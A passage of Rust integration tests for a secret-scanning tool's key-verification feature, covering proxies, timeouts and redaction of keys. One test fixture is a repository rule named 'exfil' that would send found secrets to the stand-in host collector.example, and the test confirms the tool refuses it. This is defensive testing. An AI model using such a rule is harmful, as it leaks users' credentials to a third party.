        ".env",
        format!("OPENAI_API_KEY={}\n", keys::openai_project()),
    );
    // A forward proxy (the mock) in front of a provider that does not exist: only the
    // proxy can answer, so a live verdict proves the request went through it.
    let proxy = MockServer::start(|_| models());
    let out = sb
        .keywarden()
        .args(["scan", "--verify", "--format", "jsonl"])
        .env("KEYWARDEN_OPENAI_BASE_URL", "http://api.openai.invalid/v1")
        .env("HTTP_PROXY", proxy.url())
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .assert()
        .code(1)
        .get_output()
        .clone();
    assert_eq!(jsonl(&out.stdout)[0]["verified"], "live");
    let seen = proxy.requests();
    assert_eq!(seen.len(), 1);
    assert!(
        seen[0].url.contains("api.openai.invalid/v1/models"),
        "{:?}",
        seen[0]
    );

    // A provider on loopback is reached directly even with a (dead) proxy configured.
    let direct = MockServer::start(|_| models());
    let out = sb
        .keywarden()
        .args(["scan", "--verify", "--format", "jsonl"])
        .env("KEYWARDEN_OPENAI_BASE_URL", format!("{}/v1", direct.url()))
        .env("HTTP_PROXY", "http://127.0.0.1:9")
        .env("HTTPS_PROXY", "http://127.0.0.1:9")
        .assert()
        .code(1)
        .get_output()
        .clone();
    assert_eq!(jsonl(&out.stdout)[0]["verified"], "live");
    assert_eq!(direct.count("GET", "/v1/models"), 1);
}

#[test]
fn manual_steps_of_every_provider() {
    // A fixed stand-in value keeps the snapshot stable; real keys are random.
    let key = Secret::new("x".repeat(40));
    let http = http();
    let mut text = String::new();
    let providers = providers(http);
    for id in ProviderId::ALL {
        let p = providers.get(id);
        let steps = p.manual_steps(&key);
        text.push_str(&format!(
            "## {} ({}), page: {}\n",
            p.name(),
            p.id(),
            steps.page.as_deref().unwrap_or("none")
        ));
        for (i, step) in steps.steps.iter().enumerate() {
            text.push_str(&format!("{}. {step}\n", i + 1));
        }
        text.push('\n');
    }
    insta::assert_snapshot!(text);
}

#[test]
fn a_provider_that_quotes_the_key_back_never_gets_it_printed() {
    let sb = Sandbox::new();
    let key = keys::openai_project();
    sb.write(".env", format!("OPENAI_API_KEY={key}\n"));
    let server = MockServer::start(|req| {
        let sent = bearer(req).unwrap_or_default();
        Reply::json(
            418,
            json!({"error": {"message": format!("I will not brew with {sent}"), "code": "teapot"}}),
        )
    });
    let out = sb
        .keywarden()
        .args(["scan", "--verify"])
        .env("KEYWARDEN_OPENAI_BASE_URL", format!("{}/v1", server.url()))
        .assert()
        .code(1)
        .get_output()
        .clone();
    let stderr = stderr(&out);
    assert!(stderr.contains("I will not brew with"), "{stderr}");
    // Not even a piece of it (a message may be cut short before the key ends).
    let body = &key["sk-proj-".len()..];
    for start in (0..body.len() - 12).step_by(6) {
        assert!(!stderr.contains(&body[start..start + 12]), "{stderr}");
    }
    assert!(!stdout(&out).contains(&key));
}

#[test]
fn a_provider_that_quotes_the_key_inside_a_long_url_never_gets_it_printed() {
    let sb = Sandbox::empty();
    let key = keys::openai_project();
    let server = MockServer::start(|req| {
        let sent = bearer(req).unwrap_or_default();
        Reply::json(
            418,
            json!({"error": {"message": format!("Refused; details at https://status.example.com/incidents/keys/{sent}/details for more"), "code": "teapot"}}),
        )
    });
    let ran = sb
        .run(["keys", "add", "openai-prod"])
        .env("KEYWARDEN_OPENAI_BASE_URL", format!("{}/v1", server.url()))
        .stdin(key.clone())
        .success();
    let text = ran.text();
    assert!(
        text.contains("https://status.example.com/incidents/keys/"),
        "{text}"
    );
    // Not even a piece of it (the message is cut short after a while).
    let body = &key["sk-proj-".len()..];
    for start in (0..body.len() - 12).step_by(6) {
        assert!(!text.contains(&body[start..start + 12]), "{text}");
    }
}

#[test]
fn scan_verify_gives_up_on_a_slow_provider_as_configured() {
    let sb = Sandbox::new();
    sb.write(
        ".env",
        format!("OPENAI_API_KEY={}\n", keys::openai_project()),
    );
    let server = MockServer::start(|_| models().delayed(Duration::from_secs(5)));
    let out = sb
        .keywarden()
        .args(["scan", "--verify", "--format", "jsonl"])
        .env("KEYWARDEN_OPENAI_BASE_URL", format!("{}/v1", server.url()))
        .env("KEYWARDEN_HTTP_TIMEOUT_MS", "200")
        .assert()
        .code(1)
        .get_output()
        .clone();
    assert_eq!(jsonl(&out.stdout)[0]["verified"], "unknown");
    assert!(stderr(&out).contains("timed out"));
}

// ---- issuers without a client: the checks their built-in rules describe -----------------

/// The answer a mock issuer gives for each verdict the check should reach.
fn issuer_reply(status: u16) -> Reply {
    match status {
        200 => Reply::json(200, json!({"id": "acct_1", "object": "account"})),
        status => Reply::json(status, json!({"error": "the issuer's own words"})),
    }
}

#[test]
fn every_rule_check_asks_its_issuer_once_with_the_key_in_its_header_and_reads_the_answer() {
    use keywarden::core::rules::template::{expand, KeyRng};
    use keywarden::core::rules::RuleSet;
    let rules = RuleSet::builtin().expect("built-in rules");
    let checked: Vec<_> = rules
        .rules()
        .iter()
        .filter(|r| r.verify.is_some())
        .collect();
    assert!(checked.len() >= 20, "{} rules with a check", checked.len());
    let sb = Sandbox::new();
    let mut rng = KeyRng::new(11);
    for rule in checked {
        let probe = rule.verify.as_ref().expect("filtered on it");
        let example = expand(&rule.examples[0], &mut rng).expect("a valid example");
        let key = example
            .secret()
            .expect("examples mark their secret")
            .to_string();
        sb.write("settings.txt", format!("{}\n", example.text));
        let documented = probe
            .url
            .strip_prefix("https://")
            .and_then(|rest| rest.find('/').map(|slash| rest[slash..].to_string()))
            .unwrap_or_else(|| "/".to_string());
        let variable = format!(
            "KEYWARDEN_{}_BASE_URL",
            keywarden::core::provider::id::env_name(&rule.provider)
        );
        for (status, verdict) in [(200, "live"), (probe.dead[0], "dead"), (500, "unknown")] {
            let server = MockServer::start(move |_| issuer_reply(status));
            let ran = sb
                .run(["scan", "--verify", "--format", "jsonl", "settings.txt"])
                .env(&variable, server.url())
                .env("KEYWARDEN_HTTP_TIMEOUT_MS", "5000")
                .code(1);
            let rows = jsonl(&ran.output.stdout);
            let row = rows
                .iter()
                .find(|row| row["rule_id"] == rule.id.as_str())
                .unwrap_or_else(|| panic!("{}: no finding in {rows:?}", rule.id));
            assert_eq!(row["verified"], verdict, "{}: HTTP {status}", rule.id);
            let seen = server.requests();
            assert_eq!(seen.len(), 1, "{}: asked once: {seen:?}", rule.id);
            let request = &seen[0];
            assert_eq!(request.method, "GET", "{}", rule.id);
            assert_eq!(request.url, documented, "{}", rule.id);
            assert!(
                !request.url.contains(&key),
                "{}: the key is in the URL",
                rule.id
            );
            for (name, value) in &probe.headers {
                assert_eq!(
                    request.header(name),
                    Some(value.replace("{secret}", &key).as_str()),
                    "{}: header {name}",
                    rule.id
                );
            }
            let stderr = ran.stderr();
            assert!(!stderr.contains(&key), "{}: {stderr}", rule.id);
            if verdict == "unknown" {
                assert!(stderr.contains("could not verify"), "{stderr}");
            } else {
                assert!(
                    stderr.contains(&format!("contacting {}", rule.provider)),
                    "{stderr}"
                );
            }
        }
    }
}

#[test]
fn a_repository_rule_may_not_carry_a_check() {
    let sb = Sandbox::new();
    sb.write(
        ".keywarden.toml",
        "[[rule]]\nid = \"exfil\"\nprovider = \"acme\"\ndescription = \"Acme key\"\nregex = 'acme_[a-z0-9]{20}'\nverify = { url = \"https://collector.example/k\", headers = { Authorization = \"Bearer {secret}\" }, dead = [401] }\n",
    );
    sb.run(["scan", "--verify"])
        .code(2)
        .one_line_error("`verify` is allowed only in keywarden's built-in rules");
}

#[test]
fn a_key_of_an_issuer_without_a_client_is_checked_by_its_rule_in_keys_check() {
    use keywarden::core::rules::template::{expand, KeyRng};
    let sb = Sandbox::new();
    let key = expand("«SG.{alnum:22}.{alnum:43}»", &mut KeyRng::new(5))
        .expect("a valid template")
        .secret()
        .expect("marked")
        .to_string();
    for (status, verdict, code) in [(200, "is live", 1), (401, "is dead", 0)] {
        let expected = key.clone();
        let server = MockServer::start(move |req| {
            if req.is("GET", "/v3/scopes") && bearer(req).as_deref() == Some(expected.as_str()) {
                issuer_reply(status)
            } else {
                Reply::not_found()
            }
        });
        let ran = sb
            .run(["keys", "check", "--secret-stdin"])
            .stdin(format!("{key}\n"))
            .env("KEYWARDEN_SENDGRID_BASE_URL", server.url())
            .code(code);
        let text = ran.text();
        assert!(text.contains(verdict), "{text}");
        assert!(!text.contains(&key), "{text}");
        assert_eq!(server.requests().len(), 1);
    }
}
